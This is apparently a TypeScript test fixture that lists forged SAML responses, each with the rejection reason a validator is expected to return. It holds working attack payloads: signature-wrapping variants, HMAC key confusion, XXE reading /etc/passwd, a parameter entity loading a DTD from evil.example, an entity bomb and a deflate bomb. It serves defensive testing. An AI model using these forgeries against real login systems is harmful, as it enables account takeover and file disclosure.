import { createPublicKey, createSecretKey, generateKeyPairSync, sign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { encryptedAssertion } from '../fixtures/saml/encrypt.js';
import { assertionXml, responseXml, signedResponse, signXml } from '../fixtures/saml/idp.js';
import {
  b64,
  byBoth,
  byResponse,
  EVIL,
  evilAssertion,
  type Forgery,
  forgery,
  inSignature,
  minutesAgo,
  parts,
  saying,
  sealed,
  signing,
} from './saml-workshop.js';

const WRAPPINGS: readonly Forgery[] = [
  forgery(
    'XSW1 on the response: a forged response around its own signature, the signed one inside it',
    'structure_refused',
    (shop, honest) => {
      const { signature } = parts(honest);
      return responseXml(
        shop.words,
        '_new',
        inSignature(signature, honest.replace(signature, '')) + evilAssertion(shop),
      );
    },
    { honest: byResponse },
  ),
  forgery(
    'XSW2 on the response: a detached signature, the signed response beside it',
    'structure_refused',
    (shop, honest) => {
      const { signature } = parts(honest);
      return responseXml(shop.words, '_new', honest.replace(signature, '') + signature + evilAssertion(shop));
    },
    { honest: byResponse },
  ),
  forgery(
    'XSW1 on the assertion: the forged assertion holds the signature, which holds the signed one',
    'structure_refused',
    (shop, honest) => {
      const { assertion, signature } = parts(honest);
      const evil = evilAssertion(shop).replace(
        '</saml:Issuer>',
        `</saml:Issuer>${inSignature(signature, assertion.replace(signature, ''))}`,
      );
      return honest.replace(assertion, evil);
    },
  ),
  forgery(
    'XSW2 on the assertion: a detached signature before the signed assertion, inside the forged one',
    'structure_refused',
    (shop, honest) => {
      const { assertion, signature } = parts(honest);
      const evil = evilAssertion(shop).replace(
        '</saml:Issuer>',
        `</saml:Issuer>${signature}<saml:Advice>${assertion.replace(signature, '')}</saml:Advice>`,
      );
      return honest.replace(assertion, evil);
    },
  ),
  forgery('XSW3: a forged assertion before the signed one', 'structure_refused', (shop, honest) =>
    honest.replace(parts(honest).assertion, (one) => evilAssertion(shop) + one),
  ),
  forgery('XSW3 behind: a forged assertion behind the signed one', 'structure_refused', (shop, honest) =>
    honest.replace(parts(honest).assertion, (one) => one + evilAssertion(shop)),
  ),
  forgery('XSW4: the signed assertion inside the forged one', 'structure_refused', (shop, honest) =>
    honest.replace(parts(honest).assertion, (one) =>
      evilAssertion(shop).replace('</saml:Assertion>', `${one}</saml:Assertion>`),
    ),
  ),
  forgery(
    'XSW5: the signature in the forged assertion, the signed one at the end',
    'structure_refused',
    (shop, honest) => {
      const { assertion, signature } = parts(honest);
      return honest.replace(
        assertion,
        evilAssertion(shop).replace('</saml:Issuer>', `</saml:Issuer>${signature}`) + assertion.replace(signature, ''),
      );
    },
  ),
  forgery('XSW6: the signed assertion inside the signature of the forged one', 'structure_refused', (shop, honest) => {
    const { assertion, signature } = parts(honest);
    const nested = signature.replace('</ds:Signature>', `${assertion.replace(signature, '')}</ds:Signature>`);
    return honest.replace(assertion, evilAssertion(shop).replace('</saml:Issuer>', `</saml:Issuer>${nested}`));
  }),
  forgery('XSW7: the signed assertion hidden in Extensions', 'structure_refused', (shop, honest) =>
    honest.replace(
      parts(honest).assertion,
      (one) => `<samlp:Extensions>${one}</samlp:Extensions>${evilAssertion(shop)}`,
    ),
  ),
  forgery('XSW8: the signed assertion in an Object of the signature', 'structure_refused', (shop, honest) => {
    const { assertion, signature } = parts(honest);
    return honest.replace(
      assertion,
      evilAssertion(shop).replace(
        '</saml:Issuer>',
        `</saml:Issuer>${inSignature(signature, assertion.replace(signature, ''))}`,
      ),
    );
  }),
  forgery(
    'XSW on an encrypted response: a plain forged assertion beside the encrypted one',
    'structure_refused',
    (shop, honest) => honest.replace('</samlp:Response>', `${evilAssertion(shop)}</samlp:Response>`),
    { honest: sealed },
  ),
  forgery('a forged assertion with the ID of the signed one, before it', 'structure_refused', (shop, honest) => {
    const { assertion } = parts(honest);
    return honest.replace(assertion, evilAssertion(shop, /ID="([^"]+)"/u.exec(assertion)![1]) + assertion);
  }),
  forgery('the ID of the response on its assertion', 'structure_refused', (_, honest) =>
    honest.replace(/(<samlp:Response[^>]* ID=")[^"]+/u, `$1${/<saml:Assertion[^>]* ID="([^"]+)/u.exec(honest)![1]!}`),
  ),
  forgery(
    'an unsigned response with the signed assertion of another response, and a forged one',
    'structure_refused',
    (shop, honest) => responseXml(shop.words, '_mine', evilAssertion(shop) + parts(honest).assertion),
  ),
  forgery('a second Response inside the first', 'structure_refused', (shop, honest) =>
    honest.replace('</samlp:Status>', `</samlp:Status>${responseXml(shop.words, '_inner', '')}`),
  ),
];

const SIGNATURES: readonly Forgery[] = [
  forgery('the signature taken away', 'signature_missing', (_, honest) => honest.replace(parts(honest).signature, '')),
  forgery('the signature taken away and the name changed', 'signature_missing', (_, honest) =>
    honest.replace(parts(honest).signature, '').replace('grace@example.com', EVIL),
  ),
  forgery(
    'both signatures taken away',
    'signature_missing',
    (_, honest) => honest.replace(parts(honest).signature, '').replace(/<ds:Signature [\s\S]*?<\/ds:Signature>/u, ''),
    { honest: byBoth },
  ),
  forgery('the name changed after signing', 'signature_invalid', (_, honest) =>
    honest.replace('grace@example.com', EVIL),
  ),
  forgery('an attribute changed after signing', 'signature_invalid', (_, honest) =>
    honest.replace('Grace Hopper', 'Ada Lovelace'),
  ),
  forgery('the audience changed after signing', 'signature_invalid', (_, honest) =>
    honest.replace(/(<saml:Audience>[^<]+)/u, '$1x'),
  ),
  forgery('an attribute added after signing', 'signature_invalid', (_, honest) =>
    honest.replace(
      '</saml:AttributeStatement>',
      '<saml:Attribute Name="groups"><saml:AttributeValue>owners</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>',
    ),
  ),
  forgery('the value of the signature emptied', 'encoding_invalid', (_, honest) =>
    honest.replace(/(<ds:SignatureValue>)[^<]+/u, '$1'),
  ),
  forgery('the digest emptied', 'encoding_invalid', (_, honest) => honest.replace(/(<ds:DigestValue>)[^<]+/u, '$1')),
  forgery('a signature with its last bits changed in base64 only', 'encoding_invalid', (_, honest) =>
    honest.replace(/=(<\/ds:DigestValue>)/u, '$1'),
  ),
  forgery('signed by a stranger', 'signature_invalid', ({ words, stranger }) =>
    signedResponse(words, stranger, 'both'),
  ),
  forgery('signed by a stranger who brings his certificate in KeyInfo', 'signature_invalid', ({ words, stranger }) =>
    responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', stranger.key, { certificate: stranger.certificate }),
    ),
  ),
  forgery(
    'signed by a stranger with the certificate of the provider in KeyInfo',
    'signature_invalid',
    ({ words, stranger, idp }) =>
      responseXml(
        words,
        '_r',
        signXml(assertionXml(words, '_a'), '_a', stranger.key, { certificate: idp.certificate }),
      ),
  ),
  forgery('an HMAC with the public key of the provider as the secret', 'algorithm_refused', ({ words, idp }) => {
    const secret = createSecretKey(Buffer.from(createPublicKey(idp.key).export({ type: 'spki', format: 'pem' })));
    return responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', secret, {
        signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
      }),
    );
  }),
  forgery('the algorithm renamed to HMAC-SHA256', 'algorithm_refused', (_, honest) =>
    honest.replace(
      'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
      'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
    ),
  ),
  forgery('an HMAC of one bit', 'algorithm_refused', (_, honest) =>
    honest.replace(
      /(<ds:SignatureMethod[^>]*)\/>/u,
      '$1><ds:HMACOutputLength>1</ds:HMACOutputLength></ds:SignatureMethod>',
    ),
  ),
  forgery('the algorithm renamed to one of elliptic curves', 'signature_invalid', (_, honest) =>
    honest.replace('xmldsig-more#rsa-sha256', 'xmldsig-more#ecdsa-sha256'),
  ),
  forgery('no algorithm named', 'algorithm_refused', (_, honest) =>
    honest.replace(/(<ds:SignatureMethod) Algorithm="[^"]+"/u, '$1'),
  ),
  forgery('RSA with SHA-1', 'algorithm_refused', ({ words, idp }) =>
    responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', idp.key, {
        signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
      }),
    ),
  ),
  forgery('a SHA-1 digest', 'algorithm_refused', ({ words, idp }) =>
    responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', idp.key, { digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
    ),
  ),
  forgery('inclusive canonicalization', 'algorithm_refused', ({ words, idp }) =>
    responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', idp.key, {
        canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
      }),
    ),
  ),
  forgery('a transform by XPath that hides what was changed', 'algorithm_refused', (_, honest) =>
    honest
      .replace(
        '<ds:Transforms>',
        '<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()="NameID"])</ds:XPath></ds:Transform>',
      )
      .replace('grace@example.com', EVIL),
  ),
  forgery('a transform by XSLT that runs a program', 'algorithm_refused', (_, honest) =>
    honest.replace(
      '<ds:Transforms>',
      '<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:value-of select="system-property(\'xsl:vendor\')"/></xsl:template></xsl:stylesheet></ds:Transform>',
    ),
  ),
  forgery('a transform of base64', 'algorithm_refused', (_, honest) =>
    honest.replace(
      '<ds:Transforms>',
      '<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>',
    ),
  ),
  forgery('only the enveloped transform', 'algorithm_refused', ({ words, idp }) =>
    responseXml(
      words,
      '_r',
      signXml(assertionXml(words, '_a'), '_a', idp.key, {
        transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature'],
      }),
    ),
  ),
  forgery('parameters of canonicalization that nobody knows', 'algorithm_refused', (_, honest) =>
    honest.replace(/(<ds:CanonicalizationMethod[^>]*)\/>/u, '$1><evil xmlns=""/></ds:CanonicalizationMethod>'),
  ),
  forgery('a list of prefixes that pulls in other namespaces', 'signature_invalid', (_, honest) =>
    honest.replace(
      /(<ds:Transform Algorithm="http:\/\/www.w3.org\/2001\/10\/xml-exc-c14n#")\/>/u,
      '$1><ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="samlp"/></ds:Transform>',
    ),
  ),
  forgery('two SignedInfo, the signed one second', 'structure_refused', (_, honest) =>
    honest.replace(
      /<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/u,
      (info) => info.replace(/(<ds:DigestValue>)[^<]+/u, `$1${b64('x'.repeat(32))}`) + info,
    ),
  ),
  forgery('two References', 'structure_refused', (_, honest) =>
    honest.replace(/<ds:Reference[\s\S]*<\/ds:Reference>/u, (reference) => reference + reference),
  ),
  forgery('a Reference to the whole document', 'structure_refused', (_, honest) =>
    honest.replace(/(<ds:Reference URI=")[^"]+/u, '$1'),
  ),
  forgery('a Reference by XPointer', 'structure_refused', (_, honest) =>
    honest.replace(/(<ds:Reference URI=")#([^"]+)/u, "$1#xpointer(id('$2'))"),
  ),
  forgery('a Reference to another server', 'structure_refused', (_, honest) =>
    honest.replace(/(<ds:Reference URI=")[^"]+/u, '$1https://evil.example/assertion'),
  ),
  forgery('a Manifest in the signature', 'structure_refused', (_, honest) =>
    honest.replace('</ds:Signature>', '<ds:Object><ds:Manifest/></ds:Object></ds:Signature>'),
  ),
  forgery('the key of another connection of the same org', 'signature_invalid', ({ words, otherIdp }) =>
    signedResponse(words, otherIdp, 'both'),
  ),
  forgery('a key of 512 bits that anybody factors', 'signature_invalid', ({ words }) => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 512 });
    return responseXml(words, '_r', signXml(assertionXml(words, '_a'), '_a', privateKey));
  }),
  forgery('a signature over SignedInfo of another canonical form', 'signature_invalid', ({ idp }, honest) =>
    honest.replace(
      /(<ds:SignatureValue>)[^<]+/u,
      `$1${sign('sha256', Buffer.from(/<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/u.exec(honest)![0]), idp.key).toString('base64')}`,
    ),
  ),
];

const TRICKS_OF_XML: readonly Forgery[] = [
  forgery(
    'a comment that cuts the NameID',
    'xml_refused',
    (_, honest) => honest.replace('grace@example.com', 'grace@example.com<!---->.evil.example'),
    { honest: saying({ nameId: 'grace@example.com' }) },
  ),
  forgery(
    'a comment that cuts the NameID, signed by the provider',
    'xml_refused',
    saying({ nameId: 'grace@example.com<!---->.evil.example' }),
  ),
  forgery('a CDATA section in the NameID', 'xml_refused', saying({ nameId: '<![CDATA[grace@example.com]]>' })),
  forgery('a processing instruction in the NameID', 'xml_refused', saying({ nameId: 'grace@<?x y?>example.com' })),
  forgery('an element in the NameID', 'name_id_missing', saying({ nameId: 'grace@example.com<saml:x/>' })),
  forgery('a comment in the digest', 'xml_refused', (_, honest) =>
    honest.replace(/(<ds:DigestValue>)/u, '$1<!-- AAAA -->'),
  ),
  forgery('a DOCTYPE', 'xml_refused', (_, honest) => `<!DOCTYPE r>${honest}`),
  forgery(
    'a bomb of entities',
    'xml_refused',
    (_, honest) =>
      `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${honest.replace('Grace Hopper', '&c;')}`,
  ),
  forgery(
    'an external entity',
    'xml_refused',
    (_, honest) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${honest.replace('Grace Hopper', '&x;')}`,
  ),
  forgery(
    'a parameter entity of another server',
    'xml_refused',
    (_, honest) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${honest}`,
  ),
  forgery('an XInclude of a file', 'signature_invalid', (_, honest) =>
    honest.replace(
      'Grace Hopper',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
  ),
  forgery('the prefix of assertions bound to another namespace', 'structure_refused', (_, honest) =>
    honest.replaceAll('urn:oasis:names:tc:SAML:2.0:assertion', 'urn:oasis:names:tc:SAML:2.0:assertion:evil'),
  ),
  forgery('the namespace of SAML 1.1', 'structure_refused', (_, honest) =>
    honest.replaceAll('SAML:2.0:protocol', 'SAML:1.1:protocol'),
  ),
  forgery('a namespace with a space behind it', 'xml_refused', (_, honest) =>
    honest.replace('SAML:2.0:assertion"', 'SAML:2.0:assertion "'),
  ),
  forgery('an attribute twice', 'xml_refused', (_, honest) =>
    honest.replace('Version="2.0"', 'Version="2.0" Version="2.0"'),
  ),
  forgery(
    'a second root',
    'xml_refused',
    (shop, honest) => honest + responseXml(shop.words, '_evil', evilAssertion(shop)),
  ),
  forgery('half of the message', 'xml_refused', (_, honest) => honest.slice(0, honest.length / 2)),
  forgery('nothing that is XML', 'xml_refused', () => 'hello'),
  forgery('nested a thousand deep', 'too_large', (_, honest) =>
    honest.replace(
      '</samlp:Status>',
      `</samlp:Status>${'<samlp:Extensions>'.repeat(1_000)}${'</samlp:Extensions>'.repeat(1_000)}`,
    ),
  ),
  forgery('twenty thousand elements', 'too_large', (_, honest) =>
    honest.replace('</samlp:Status>', `</samlp:Status>${'<samlp:x/>'.repeat(20_000)}`),
  ),
  forgery('more than half a megabyte', 'too_large', (_, honest) =>
    honest.replace('</samlp:Status>', `</samlp:Status>${' '.repeat(560_000)}`),
  ),
  forgery(
    'a LogoutRequest for an answer',
    'structure_refused',
    () => `<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"/>`,
  ),
  forgery('an assertion without a response', 'structure_refused', ({ words, idp }) =>
    signXml(assertionXml(words, '_a'), '_a', idp.key),
  ),
  forgery('an assertion of SAML 2.0 inside an Advice of the signed one', 'structure_refused', (shop) =>
    signing((assertion) =>
      assertion.replace('</saml:Subject>', `</saml:Subject><saml:Advice>${evilAssertion(shop)}</saml:Advice>`),
    )(shop),
  ),
];

const OTHER = 'https://other.example';
const MEANINGS: readonly Forgery[] = [
  forgery('addressed to another place (Destination)', 'destination_mismatch', (_, honest) =>
    honest.replace(/Destination="[^"]+"/u, `Destination="${OTHER}/acs"`),
  ),
  forgery('addressed to nobody', 'destination_mismatch', (_, honest) => honest.replace(/ Destination="[^"]+"/u, '')),
  forgery(
    'meant for another recipient',
    'recipient_mismatch',
    signing((xml) => xml.replace(/Recipient="[^"]+"/u, `Recipient="${OTHER}/acs"`)),
  ),
  forgery('meant for another audience', 'audience_mismatch', saying({ audience: OTHER })),
  forgery(
    'meant for no audience',
    'audience_mismatch',
    signing((xml) => xml.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/u, '')),
  ),
  forgery(
    'meant for us and, by a second restriction, for others only',
    'audience_mismatch',
    signing((xml) =>
      xml.replace(
        '</saml:Conditions>',
        `<saml:AudienceRestriction><saml:Audience>${OTHER}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`,
      ),
    ),
  ),
  forgery('of another issuer', 'issuer_mismatch', saying({ issuer: OTHER })),
  forgery(
    'an assertion of another issuer in our provider’s response',
    'issuer_mismatch',
    signing((xml) => xml.replace(/<saml:Issuer>[^<]+/u, `<saml:Issuer>${OTHER}`)),
  ),
  forgery('a response of another issuer', 'issuer_mismatch', (_, honest) =>
    honest.replace(/<saml:Issuer>[^<]+/u, `<saml:Issuer>${OTHER}`),
  ),
  forgery('an answer to another question', 'in_response_to_mismatch', saying({ requestId: '_another' })),
  forgery('an answer to no question', 'in_response_to_mismatch', saying({ requestId: undefined })),
  forgery(
    'a confirmation of another question',
    'subject_not_confirmed',
    signing((xml) => xml.replace(/InResponseTo="[^"]+"/u, 'InResponseTo="_another"')),
  ),
  forgery('expired', 'expired', saying(minutesAgo(30))),
  forgery('not yet valid', 'not_yet_valid', saying(minutesAgo(-30))),
  forgery(
    'without any condition',
    'not_yet_valid',
    signing((xml) => xml.replace(/<saml:Conditions[\s\S]*<\/saml:Conditions>/u, '')),
  ),
  forgery(
    'with an end that is no time',
    'expired',
    signing((xml) => xml.replace(/(<saml:Conditions[^>]*NotOnOrAfter=")[^"]+/u, '$1tomorrow')),
  ),
  forgery(
    'with a confirmation that has ended',
    'subject_not_confirmed',
    signing((xml) => xml.replace(/(<saml:SubjectConfirmationData[^>]*NotOnOrAfter=")[^"]+/u, '$12020-01-01T00:00:00Z')),
  ),
  forgery(
    'with a confirmation that never ends',
    'subject_not_confirmed',
    signing((xml) => xml.replace(/(<saml:SubjectConfirmationData[^>]*) NotOnOrAfter="[^"]+"/u, '$1')),
  ),
  forgery(
    'without a confirmation',
    'recipient_mismatch',
    signing((xml) => xml.replace(/<saml:SubjectConfirmation[\s\S]*<\/saml:SubjectConfirmation>/u, '')),
  ),
  forgery(
    'confirmed by a key that nobody shows (holder-of-key)',
    'recipient_mismatch',
    signing((xml) => xml.replace('cm:bearer', 'cm:holder-of-key')),
  ),
  forgery(
    'confirmed by a voucher',
    'recipient_mismatch',
    signing((xml) => xml.replace('cm:bearer', 'cm:sender-vouches')),
  ),
  forgery(
    'of a session that has ended',
    'session_expired',
    signing((xml) => xml.replace(/(SessionNotOnOrAfter=")[^"]+/u, '$12020-01-01T00:00:00Z')),
  ),
  forgery(
    'without a sign-in (no AuthnStatement)',
    'session_expired',
    signing((xml) => xml.replace(/<saml:AuthnStatement[\s\S]*<\/saml:AuthnStatement>/u, '')),
  ),
  forgery('with the status AuthnFailed beside a good assertion', 'status_not_success', (_, honest) =>
    honest.replace('status:Success', 'status:AuthnFailed'),
  ),
  forgery('without a status', 'status_not_success', (_, honest) =>
    honest.replace(/<samlp:Status>.*<\/samlp:Status>/u, ''),
  ),
  forgery('with two statuses, one of success', 'status_not_success', (_, honest) =>
    honest.replace(
      /<samlp:Status>/u,
      '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/></samlp:Status><samlp:Status>',
    ),
  ),
  forgery(
    'without a NameID',
    'name_id_missing',
    signing((xml) => xml.replace(/<saml:NameID[\s\S]*<\/saml:NameID>/u, '')),
  ),
  forgery('with an empty NameID', 'name_id_missing', saying({ nameId: ' ' })),
  forgery(
    'with two NameIDs',
    'name_id_missing',
    signing((xml) =>
      xml.replace('<saml:SubjectConfirmation ', `<saml:NameID>${EVIL}</saml:NameID><saml:SubjectConfirmation `),
    ),
  ),
  forgery(
    'with two subjects',
    'name_id_missing',
    signing((xml) =>
      xml.replace('</saml:Subject>', `</saml:Subject><saml:Subject><saml:NameID>${EVIL}</saml:NameID></saml:Subject>`),
    ),
  ),
  forgery(
    'with a name that is another one each time',
    'name_id_transient',
    saying({ nameIdFormat: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient', nameId: '_f00' }),
  ),
];

const SEALINGS: readonly Forgery[] = [
  forgery(
    'encrypted with AES-CBC where it is not allowed',
    'algorithm_refused',
    ({ words, idp, ours }) =>
      signXml(
        responseXml(
          words,
          '_r',
          encryptedAssertion(signXml(assertionXml(words, '_a'), '_a', idp.key), ours, { cipher: 'aes256-cbc' }),
        ),
        '_r',
        idp.key,
      ),
    { honest: sealed },
  ),
  forgery(
    'encrypted with a key wrapped by PKCS#1 v1.5',
    'algorithm_refused',
    ({ words, idp, ours }) =>
      responseXml(
        words,
        '_r',
        encryptedAssertion(signXml(assertionXml(words, '_a'), '_a', idp.key), ours, { wrap: 'pkcs1' }),
      ),
    { honest: sealed },
  ),
  forgery(
    'encrypted by a forger, without a signature',
    'signature_missing',
    (shop) => responseXml(shop.words, '_r', encryptedAssertion(evilAssertion(shop), shop.ours)),
    { honest: sealed },
  ),
  forgery(
    'encrypted by a forger, with a signature of his',
    'signature_invalid',
    (shop) =>
      responseXml(
        shop.words,
        '_r',
        encryptedAssertion(signXml(evilAssertion(shop), '_evil', shop.stranger.key), shop.ours),
      ),
    { honest: sealed },
  ),
  forgery(
    'with a bit of the ciphertext flipped',
    'decryption_failed',
    ({ words, idp, ours }) =>
      responseXml(
        words,
        '_r',
        encryptedAssertion(signXml(assertionXml(words, '_a'), '_a', idp.key), ours, {
          damage: (bytes) => Buffer.from(bytes.map((byte, i) => (i === 50 ? byte ^ 4 : byte))),
        }),
      ),
    { honest: sealed },
  ),
  forgery(
    'encrypted for somebody else',
    'decryption_failed',
    ({ words, idp, stranger }) =>
      responseXml(
        words,
        '_r',
        encryptedAssertion(signXml(assertionXml(words, '_a'), '_a', idp.key), createPublicKey(stranger.key)),
      ),
    { honest: sealed },
  ),
  forgery(
    'a signed response whose ciphertext was exchanged',
    'signature_invalid',
    (shop, honest) =>
      honest.replace(
        /<saml:EncryptedAssertion[\s\S]*<\/saml:EncryptedAssertion>/u,
        encryptedAssertion(evilAssertion(shop), shop.ours),
      ),
    {
      honest: (shop) => {
        const xml = sealed(shop);
        return signXml(xml, /ID="([^"]+)"/u.exec(xml)![1]!, shop.idp.key);
      },
    },
  ),
];

/** What is not base64, or is not the message it should be: given as the form field itself. */
export const DAMAGED_FIELDS: readonly (readonly [name: string, reason: string, damage: (field: string) => string])[] = [
  ['base64 with a sign that is none', 'encoding_invalid', (field) => `${field.slice(0, 40)}*${field.slice(41)}`],
  ['base64url', 'encoding_invalid', (field) => `-_${field}`],
  ['nothing', 'message_missing', () => ''],
  ['bytes that are not UTF-8', 'encoding_invalid', () => Buffer.from([0x3c, 0xff, 0xfe, 0xfd]).toString('base64')],
  [
    'a deflated bomb where none is unpacked',
    'encoding_invalid',
    () => deflateRawSync(Buffer.alloc(50 * 1024 * 1024)).toString('base64'),
  ],
  ['base64 twice', 'xml_refused', (field) => b64(field)],
];

export const FORGERIES: readonly Forgery[] = [...WRAPPINGS, ...SIGNATURES, ...TRICKS_OF_XML, ...MEANINGS, ...SEALINGS];
